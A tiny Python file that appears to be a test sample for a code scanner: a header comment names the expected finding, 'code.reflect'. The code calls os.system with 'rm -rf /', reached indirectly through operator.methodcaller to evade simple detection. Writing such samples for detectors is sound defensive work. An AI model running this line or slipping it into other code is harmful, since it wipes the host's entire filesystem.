# nacre: found code.reflect
import operator
import os
operator.methodcaller('system', 'rm -rf /')(os)
